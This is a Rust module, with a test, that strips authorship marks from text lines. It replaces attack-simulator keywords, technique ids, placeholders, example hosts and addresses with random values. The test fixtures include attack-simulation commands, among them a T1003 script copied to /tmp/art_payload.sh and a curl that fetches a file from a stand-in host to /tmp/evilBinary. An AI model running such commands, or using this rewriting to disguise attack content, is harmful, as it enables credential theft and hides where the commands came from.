//! Takes the author out of public text: marks of simulators, placeholders, sample hosts, addresses and paths are
//! replaced by drawn values, differently each time a line is read. Otherwise a model learns who wrote a line.

use std::fmt::Write as _;

use super::draw::Draw;

/// A word that contains one of these is an author's.
const MARKS: [&str; 22] = [
    "atomic",
    "redcanary",
    "caldera",
    "sandcat",
    "stockpile",
    "evil",
    "malicious",
    "malware",
    "triznadm",
    "totally",
    "persist",
    "attacker",
    "victim",
    "pwn",
    "hacked",
    "payload",
    "exploit",
    "poc",
    "rootkit",
    "credstuff",
    "thisispayload",
    "art_",
];

/// `line` with fresh values.
pub fn line(line: &str, draw: &mut Draw) -> String {
    let line = placeholders(line, draw);
    let line = sample_paths(&line, draw);
    words(&line, draw)
}

/// `#{name}`, `{{name}}`, `<name>`, `%%NAME%%`: a value that fits the name.
fn placeholders(line: &str, draw: &mut Draw) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    'next: while let Some(first) = rest.chars().next() {
        for (open, close) in [("#{", "}"), ("{{", "}}"), ("%%", "%%")] {
            if let Some(after) = rest.strip_prefix(open)
                && let Some(end) = after.find(close)
                && end < 60
            {
                out.push_str(&value(&after[..end].to_lowercase(), draw));
                rest = &after[end + close.len()..];
                continue 'next;
            }
        }
        out.push(first);
        rest = &rest[first.len_utf8()..];
    }
    out
}

fn value(name: &str, draw: &mut Draw) -> String {
    let has = |words: &[&str]| words.iter().any(|word| name.contains(word));
    if has(&["port"]) {
        draw.port().to_string()
    } else if has(&[
        "ip", "host", "server", "target", "domain", "address", "fqdn",
    ]) {
        draw.host()
    } else if has(&["url", "uri"]) {
        format!("https://{}/{}", draw.host(), draw.word())
    } else if has(&["path", "dir", "folder"]) {
        draw.path()
    } else if has(&["file"]) {
        draw.file()
    } else if has(&["pid", "count", "size", "num"]) {
        draw.between(2, 900).to_string()
    } else {
        draw.word()
    }
}

/// `path/to/file.ext` of usage examples.
fn sample_paths(line: &str, draw: &mut Draw) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find("path/to/") {
        out.push_str(rest[..at].trim_end_matches('/'));
        let tail = &rest[at + 8..];
        let end = tail
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | ':' | ')' | ';' | '|' | ',' | '}')
            })
            .unwrap_or(tail.len());
        let extension = tail[..end]
            .rsplit_once('.')
            .map_or("", |(_, extension)| extension);
        let path = draw.path();
        let stem = path
            .rsplit_once('.')
            .map_or(path.as_str(), |(stem, _)| stem);
        if extension.is_empty() || extension.len() > 6 {
            out.push_str(&path);
        } else {
            let _written = write!(out, "{stem}.{extension}");
        }
        rest = &tail[end..];
    }
    out.push_str(rest);
    out
}

/// Marks, technique ids, sample hosts and addresses, word by word.
fn words(line: &str, draw: &mut Draw) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(first) = rest.chars().next() {
        let is = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
        if !is(first) {
            out.push(first);
            rest = &rest[first.len_utf8()..];
            continue;
        }
        let end = rest.find(|c: char| !is(c)).unwrap_or(rest.len());
        let (word, tail) = rest.split_at(end);
        match replacement(word, draw) {
            Some(fresh) => out.push_str(&fresh),
            None => out.push_str(word),
        }
        rest = tail;
    }
    out
}

fn replacement(word: &str, draw: &mut Draw) -> Option<String> {
    let low = word.to_ascii_lowercase();
    if let Ok(address) = low.parse::<std::net::Ipv4Addr>() {
        let fixed = address.is_loopback() || address.is_unspecified() || low == "169.254.169.254";
        return (!fixed).then(|| draw.address());
    }
    if ["example.com", "example.org", "example.net"]
        .iter()
        .any(|sample| low.ends_with(sample))
    {
        return Some(draw.host_name());
    }
    let technique = low.as_bytes();
    let is_technique = technique.len() >= 5
        && (technique[0] == b't')
        && technique[1..5].iter().all(u8::is_ascii_digit);
    if is_technique || low == "art" || MARKS.iter().any(|mark| low.contains(mark)) {
        let extension = low
            .rsplit_once('.')
            .map(|(_, end)| end)
            .filter(|end| end.len() <= 4 && !end.bytes().any(|b| b.is_ascii_digit()));
        return Some(match extension {
            Some(extension) => format!("{}.{extension}", draw.word()),
            None => draw.word(),
        });
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn authors_are_gone_and_the_command_stays() {
        let mut draw = Draw::new(7);
        for text in [
            "cp /opt/atomics/T1003/src/x.sh /tmp/art_payload.sh",
            "curl http://example.com:8000/#{remote.file} -o /tmp/evilBinary",
            "tar -xf path/to/file.tar --directory path/to/dir",
            "scp 192.0.2.44:/x {{name}}",
        ] {
            let fresh = line(text, &mut draw).to_lowercase();
            for mark in [
                "atomic",
                "t1003",
                "art_",
                "example.com",
                "#{",
                "{{",
                "path/to",
                "192.0.2.44",
                "evil",
            ] {
                assert!(!fresh.contains(mark), "{mark} is left in {fresh}");
            }
            let head = text.split(' ').next().unwrap();
            assert!(fresh.starts_with(head), "{fresh}");
        }
    }
}
